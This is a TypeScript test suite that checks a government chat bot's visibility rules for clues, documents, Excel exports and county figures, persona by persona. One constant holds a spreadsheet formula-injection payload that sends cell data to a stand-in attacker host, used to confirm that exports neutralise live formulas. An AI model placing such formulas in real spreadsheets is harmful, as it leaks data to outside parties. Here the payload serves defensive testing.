import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHANNEL_NAMES } from '../../src/channels';
import type { ClueRoute } from '../../src/config/routing';
import { CLUE_NOT_AVAILABLE } from '../../src/domain/clues/access';
import { COUNTY_FIGURES_ONLY } from '../../src/domain/reports/report-service';
import { parseRosterCsv } from '../../src/domain/roster/roster-csv';
import type { OutgoingMessage } from '../../src/kernel/messages';
import type { Person } from '../../src/kernel/people';
import { startTestBot, type TestBot } from '../support/test-bot';

/**
 * The one visibility policy (issue 22 item 4), enumerated against the real bot: every persona of
 * config/roster.example.csv × every clue and document × view and export, and the county figures.
 * Whatever a persona's 导出 lists, the same persona can open; whatever the policy refuses, 导出 leaves out.
 */

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
const NOW = new Date('2026-11-26T02:00:00Z');

let bot: TestBot;
let people: Person[];
const clues: { number: string; route: ClueRoute; submitter: string }[] = [];
const documents: { number: string; kind: string; issuer: string; recipient: string }[] = [];

async function send(userId: string, text: string): Promise<OutgoingMessage[]> {
  const res = await bot.post('/console/messages', JSON.stringify({ userId, text }));
  expect(res.status).toBe(200);
  return ((await res.json()) as { replies: OutgoingMessage[] }).replies;
}
const say = async (userId: string, text: string) => (await send(userId, text)).map((r) => r.text).join('\n');

async function exported(userId: string): Promise<ExcelJS.Workbook> {
  const [reply] = await send(userId, '导出');
  expect(reply!.file, reply!.text).toBeTruthy();
  const res = await bot.open(reply!.file!.url, userId);
  expect(res.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
  return workbook;
}

const column = (workbook: ExcelJS.Workbook, sheet: string, index = 1) =>
  (workbook.getWorksheet(sheet)!.getColumn(index).values as unknown[]).slice(2).map(String);

beforeAll(async () => {
  bot = await startTestBot({ now: NOW });
  people = parseRosterCsv(readFileSync('config/roster.example.csv', 'utf8'), {
    agencies: new Set(bot.services.config.agencies.map((a) => a.code)),
    channels: CHANNEL_NAMES,
  });
  const category = { jw: '贪污贿赂', jcy: '生态环境和资源保护', sfj: '规范性文件审查' } as const;
  for (const [route, submitter] of [
    ['jw', 'jw-officer'],
    ['jcy', 'sfj-officer'],
    ['sfj', 'jcy-officer'],
  ] as const) {
    const sender = (await bot.services.roster.find('console', submitter))!;
    const clue = await bot.services.clues.submit(
      sender,
      { id: randomUUID(), facts: `测试线索事实${route}`, attachments: [], anonymous: false, route, category: category[route] },
      'console',
    );
    clues.push({ number: clue.number, route, submitter });
  }
  const jcy = (await bot.services.roster.find('console', 'jcy-officer'))!;
  const sfj = (await bot.services.roster.find('console', 'sfj-officer'))!;
  for (const [by, kind, recipient, reference] of [
    [jcy, 'recommendation', 'nyncj', FORMULA],
    [sfj, 'notice', 'zhzf', '嘉司监〔2026〕1号'],
  ] as const) {
    const doc = await bot.services.documents.register(by, { kind, reference, recipient, startDate: '2026-11-20', urgent: false });
    documents.push({ number: doc.number, kind, issuer: by.agency, recipient });
  }
}, 120_000);

afterAll(async () => {
  await bot?.close();
});

describe('the visibility matrix, persona by persona', () => {
  it('covers every persona of the example roster', () => {
    expect(people.length).toBeGreaterThanOrEqual(12);
    expect(clues.every((c) => /^XS-/.test(c.number))).toBe(true);
  });

  it('views clues and documents exactly as the policy says', async () => {
    const { visibility } = bot.services.org;
    for (const person of people) {
      for (const clue of clues) {
        const allowed = clue.submitter === person.userId || visibility.canSee(person, 'clue', 'view', { parties: [clue.route] });
        const reply = await say(person.userId, `线索 ${clue.number}`);
        expect(reply === CLUE_NOT_AVAILABLE, `${person.userId} 线索 ${clue.route}`).toBe(!allowed);
      }
      for (const doc of documents) {
        const allowed = bot.services.documents.kinds.mayView(doc, person);
        const reply = await say(person.userId, `文书 ${doc.number}`);
        expect(reply.startsWith('找不到您可查看的文书'), `${person.userId} 文书 ${doc.number}`).toBe(!allowed);
      }
    }
  }, 120_000);

  it('exports nothing a persona cannot view; enforcement units only their own; no live formula', async () => {
    const { org } = bot.services;
    for (const person of people.filter((p) => org.may(p, 'viewReports'))) {
      const workbook = await exported(person.userId);
      const clueNumbers = column(workbook, '线索');
      const documentNumbers = column(workbook, '文书');
      for (const clue of clues) {
        expect(clueNumbers.includes(clue.number), `${person.userId} exports ${clue.route} clue`).toBe(
          org.visibility.canSee(person, 'clue', 'export', { parties: [clue.route] }),
        );
      }
      for (const number of clueNumbers) expect(await say(person.userId, `线索 ${number}`), `${person.userId} ${number}`).not.toBe(CLUE_NOT_AVAILABLE);
      for (const number of documentNumbers) expect(await say(person.userId, `文书 ${number}`)).not.toMatch(/^找不到您可查看的文书/);
      if (org.is(person.agency, 'enforcement')) {
        expect(clueNumbers).toEqual([]);
        const recipients = column(workbook, '文书', 5);
        expect(
          recipients.every((name) => name === org.name(person.agency)),
          `${person.userId}: ${recipients}`,
        ).toBe(true);
        expect(workbook.getWorksheet('说明')!.getColumn(2).values.join('')).not.toContain('纪委监委线索');
      }
      for (const reference of column(workbook, '文书', 3)) expect(reference.startsWith('=')).toBe(false);
      if (documentNumbers.length) {
        const cell = workbook
          .getWorksheet('文书')!
          .getRow(2 + documentNumbers.indexOf(documents[0]!.number))
          .getCell(3);
        if (documentNumbers.includes(documents[0]!.number)) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expect(cell.value).toBe(`'${FORMULA}`);
        }
      }
    }
  }, 180_000);

  it('gives the county figures to supervisors and government leaders only', async () => {
    const { org } = bot.services;
    for (const person of people) {
      const reply = await say(person.userId, '概况');
      const allowed = org.may(person, 'viewReports') && org.visibility.countsCounty(person);
      expect(!reply.includes('仅限'), `${person.userId}: ${reply.slice(0, 40)}`).toBe(allowed);
      if (org.is(person.agency, 'enforcement') && org.may(person, 'viewReports')) expect(reply).toBe(COUNTY_FIGURES_ONLY);
      if (org.is(person.agency, 'supervisor') && org.may(person, 'viewReports')) expect(allowed).toBe(true);
    }
  }, 60_000);
});
